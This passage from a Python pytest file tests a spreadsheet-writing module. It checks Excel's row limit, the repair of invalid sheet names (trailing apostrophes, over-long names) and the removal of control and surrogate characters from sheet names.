    with pytest.raises(ValueError, match="1,048,576"):  # openpyxl said so too; XlsxWriter would drop them
        WB.write_table(pd.DataFrame({"a": range(1_048_576 - 3)}), tmp_path / "t.xlsx", "T")
    assert list(tmp_path.iterdir()) == []



def test_sheet_names_excel_refuses_are_mended(tmp_path):
    """Excel (and so XlsxWriter) refuses a name ending with an apostrophe or longer than 31 UTF-16
    units; openpyxl wrote them. Names without either come out as before (test_workbook)."""
    for title in ["a" * 29 + "' '", "01 P01 " + "😀" * 20]:
        name = WB.sheet_name(title, set())
        assert not name.endswith("'") and len(name.encode("utf-16-le")) <= 62
        WB.write_table(pd.DataFrame({"a": [1]}), tmp_path / "t.xlsx", title)
        assert openpyxl.load_workbook(tmp_path / "t.xlsx").sheetnames == [name]


def test_sheet_names_drop_characters_a_workbook_cannot_hold():
    from analysis.training.workbook import sheet_name

    used: set[str] = set()
    for raw in ("01 P\x01 R", "\uffff", "02 \ud800 X"):
        name = sheet_name(raw, used)
        assert not any(ord(ch) < 32 or ch in "\ufffe\uffff" or 0xD800 <= ord(ch) <= 0xDFFF for ch in name), name
